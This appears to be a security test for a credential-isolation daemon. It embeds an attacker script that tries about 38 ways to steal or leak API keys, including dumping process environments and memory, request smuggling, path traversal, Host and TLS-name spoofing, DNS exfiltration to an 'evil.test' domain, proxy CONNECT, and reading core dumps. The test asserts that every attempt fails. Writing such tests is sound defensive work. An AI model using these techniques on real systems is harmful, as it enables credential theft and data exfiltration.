"""A program with full control of its cage tries to learn a value, or to send it elsewhere."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from whole.harness.bound_server import BoundServer
from whole.harness.daemon import Daemon
from whole.harness.keys import VALUE, Keys, out
from whole.harness.model import ModelServer
from whole.harness.project import Project

SECTION = """\
[credentials.host]
hosts = ["localhost:{port}"]
ca_file = "{ca_file}"
place = ["bearer", "query:key"]
rules = ["GET /echo", "POST /echo", "GET /away"]
as = {{ env = ["API_KEY"] }}
for = {{ projects = ["shop"] }}

[credentials.other]
hosts = ["localhost:{other}"]
ca_file = "{other_ca}"
as = {{ env = ["OTHER_KEY"] }}
for = {{ projects = ["shop"] }}
"""
LOCAL = '[credentials.host]\nvalue = "${HOST_VALUE}"\n[credentials.other]\nvalue = "${OTHER}"\n'
OTHER = "other_Th1sIsTheValueOfAnotherHost"

ATTACKER = """
import base64, json, os, pathlib, socket, ssl, subprocess, urllib.request
KEY, OTHER = os.environ["API_KEY"], os.environ["OTHER_KEY"]
PORT, OTHER_PORT = {port}, {other}
learned = {{}}

def raw(text, port=PORT, tls=True, name="localhost"):
    with socket.create_connection(("localhost", port), timeout=10) as sock:
        if tls:
            context = ssl.create_default_context()
            context.check_hostname = False
            context.verify_mode = ssl.CERT_NONE
            sock = context.wrap_socket(sock, server_hostname=name)
        sock.sendall(text.replace("\\n", "\\r\\n").encode())
        got = b""
        sock.settimeout(5)
        try:
            while data := sock.recv(65536):
                got += data
        except OSError:
            pass
        return got.decode("latin-1")

def ask(path="/echo", key=KEY, method="GET", port=PORT, body="", more="", **options):
    length = f"Content-Length: {{len(body)}}\\n" if body else ""
    return raw(f"{{method}} {{path}} HTTP/1.1\\nHost: localhost:{{port}}\\n"
               f"Authorization: Bearer {{key}}\\n{{length}}{{more}}Connection: close\\n\\n{{body}}",
               port, **options)

def shell(words):
    return subprocess.run(words, shell=True, capture_output=True, text=True, errors="replace",
                          timeout=30).stdout[:200000]

def files():
    said = ""
    for top in ("/proc", "/run", "/tmp", "/etc", os.environ["HOME"]):
        for file in pathlib.Path(top).rglob("*"):
            try:
                if file.is_file() and file.stat().st_size < 1_000_000 and "/sys/" not in str(file):
                    fd = os.open(file, os.O_RDONLY | os.O_NONBLOCK)
                    said += os.read(fd, 100_000).decode("latin-1")
                    os.close(fd)
            except OSError:
                pass
    return said

def memory():
    said = b""
    for maps in pathlib.Path("/proc").glob("[0-9]*/maps"):
        try:
            with open(maps.parent / "mem", "rb", 0) as mem:
                for line in maps.read_text().splitlines()[:400]:
                    begin, end = (int(one, 16) for one in line.split()[0].split("-"))
                    if "r" in line.split()[1] and end - begin < 20_000_000:
                        try:
                            mem.seek(begin)
                            said += mem.read(end - begin)
                        except (OSError, ValueError, OverflowError):
                            pass
        except OSError:
            pass
    spelled = "".join(chr(ord(one) ^ 1) for one in {scrambled!r})
    return "FOUND " + spelled if spelled.encode() in said else "nothing"

def proxy(question):
    with socket.create_connection(("127.0.0.1", 808), timeout=10) as sock:
        sock.sendall(question)
        return sock.recv(65536).decode("latin-1")

def in_halves():
    return ask(more="Range: bytes=0-40\\n") + ask(more="Range: bytes=20-60\\n")

TRIES = {{
    "environment": lambda: "\\n".join(map("=".join, os.environ.items())),
    "files": files,
    "memory": memory,
    "echo of headers": ask,
    "echo in the query": lambda: raw(f"GET /echo?key={{KEY}} HTTP/1.1\\nHost: localhost:{{PORT}}\\n"
                                     f"Connection: close\\n\\n"),
    "echo of a body": lambda: ask(method="POST", body="x" * 100),
    "a redirect": lambda: ask("/away"),
    "a redirect that is followed": lambda: shell(
        f'curl -skL --max-time 10 -H "Authorization: Bearer {{KEY}}" https://localhost:{{PORT}}/away'),
    "in halves": in_halves,
    "compressed": lambda: ask(more="Accept-Encoding: gzip, br\\n"),
    "HEAD": lambda: ask(method="HEAD"),
    "TRACE": lambda: ask(method="TRACE"),
    "OPTIONS": lambda: ask(method="OPTIONS"),
    "another path": lambda: ask("/plain"),
    "dots": lambda: ask("/echo/../plain"),
    "escaped dots": lambda: ask("/echo/%2e%2e/plain"),
    "another host's key": lambda: ask(key=OTHER),
    "the key at another host": lambda: ask(port=OTHER_PORT),
    "both keys": lambda: ask(more=f"X-Api-Key: {{OTHER}}\\n"),
    "another header": lambda: ask(key="x", more=f"X-Api-Key: {{KEY}}\\n"),
    "a body": lambda: ask(key="x", method="POST", body=f"key={{KEY}}"),
    "a body in base64": lambda: ask(
        method="POST", body=base64.b64encode(KEY.encode()).decode()),
    "another name in TLS": lambda: ask(name="evil.test"),
    "the key as a name in TLS": lambda: ask(name=KEY.replace("_", "-") + ".test"),
    "another Host": lambda: raw(f"GET /echo HTTP/1.1\\nHost: evil.test\\n"
                                f"Authorization: Bearer {{KEY}}\\nConnection: close\\n\\n"),
    "the other's Host": lambda: raw(f"GET /echo HTTP/1.1\\nHost: localhost:{{OTHER_PORT}}\\n"
                                    f"Authorization: Bearer {{KEY}}\\nConnection: close\\n\\n"),
    "no TLS": lambda: ask(tls=False),
    "two requests in one": lambda: raw(
        f"POST /echo HTTP/1.1\\nHost: localhost:{{PORT}}\\nAuthorization: Bearer {{KEY}}\\n"
        f"Content-Length: 0\\nTransfer-Encoding: chunked\\n\\n0\\n\\nGET /plain HTTP/1.1\\n"
        f"Host: localhost:{{PORT}}\\nAuthorization: Bearer {{KEY}}\\n\\n"),
    "a broken request": lambda: raw(f"GET /echo HTTP/1.1\\nHost localhost\\nBearer {{KEY}}\\n\\n"),
    "a long request": lambda: ask(more="X: " + "a" * 200000 + "\\n"),
    "a method of its own": lambda: ask(method="GET", more="X-HTTP-Method-Override: DELETE\\n"),
    "DNS": lambda: shell(f"getent hosts {{KEY.replace('_', '-')}}.evil.test"),
    "the proxy, to another host": lambda: proxy(b"CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n"),
    "the proxy, with the key": lambda: proxy(
        f"CONNECT {{KEY.replace('_', '-')}}.test:443 HTTP/1.1\\r\\n\\r\\n".encode()),
    "the proxy, plain": lambda: proxy(
        f"GET http://localhost:{{PORT}}/echo HTTP/1.1\\r\\n"
        f"Authorization: Bearer {{KEY}}\\r\\n\\r\\n".encode()),
    "the processes": lambda: shell("cat /proc/*/environ /proc/*/cmdline | tr '\\\\0' '\\\\n'"),
    "the daemon's files": lambda: shell("cat ~/.kaged/* ~/.config/kaged/* /var/lib/kaged/* 2>&1"),
    "strings of a core": lambda: shell("kill -SEGV $$; cat core* /var/crash/* 2>&1"),
}}
for name, attempt in TRIES.items():
    try:
        learned[name] = str(attempt())
    except Exception as error:
        learned[name] = repr(error)
pathlib.Path("learned.json").write_text(json.dumps(learned))
print(len(learned))
"""


@pytest.fixture
def servers(tmp_path: Path) -> Iterator[tuple[BoundServer, BoundServer]]:
    """Return two servers that want a value each."""
    made = BoundServer(tmp_path / "first", VALUE), BoundServer(tmp_path / "second", OTHER)
    yield made
    for one in made:
        one.close()


@pytest.fixture
def shop(
    own: Callable[..., Daemon],
    model: ModelServer,
    tmp_path: Path,
    servers: tuple[BoundServer, BoundServer],
) -> Project:
    """Return a project whose agents have both credentials."""
    first, second = servers
    config = SECTION.format(
        port=first.port, ca_file=first.ca_file, other=second.port, other_ca=second.ca_file
    )
    local = model.local_toml()
    env = {"HOST_VALUE": VALUE, "OTHER": OTHER}
    daemon = own(config=config, local=local + LOCAL, env=env)
    daemon.start()
    return Keys(daemon, local, tmp_path).project("shop", "host", "other")


def _spellings(value: str) -> list[str]:
    coded = base64.b64encode(value.encode()).decode()
    return [value, value.upper(), value[::-1], value.encode().hex(), coded[:-4], value[8:24]]


def test_an_attacker_learns_no_value_and_sends_none_elsewhere(
    shop: Project, servers: tuple[BoundServer, BoundServer]
) -> None:
    first, second = servers
    scrambled = "".join(chr(ord(one) ^ 1) for one in VALUE)
    shop.write(
        "attacker.py", ATTACKER.format(port=first.port, other=second.port, scrambled=scrambled)
    )
    said = out(shop, "python3 attacker.py 2>&1")
    learned = json.loads(shop.read("learned.json"))
    assert said == f"{len(learned)}\n"
    assert len(learned) >= 38
    for name, text in learned.items():
        for value in (VALUE, OTHER):
            for spelled in _spellings(value):
                assert spelled not in text, (name, text[:2000])
    assert learned["memory"] == "nothing"
    # The tries that are allowed did get through, so the others failed for a reason.
    assert "200" in learned["echo of headers"]
    assert "****" in learned["echo of headers"]
    assert "302" in learned["a redirect"]
    for server, value, foreign in ((first, VALUE, OTHER), (second, OTHER, VALUE)):
        for one in server.seen:
            told = f"{one.method} {one.path} {dict(one.headers)} {one.body!r}"
            assert foreign not in told
            assert "kgd_" not in told
            if value in told:
                assert one.path.partition("?")[0] in ("/echo", "/away")
                assert one.method in ("GET", "POST")
    assert [one for one in second.seen if OTHER in str(one.headers)] == []
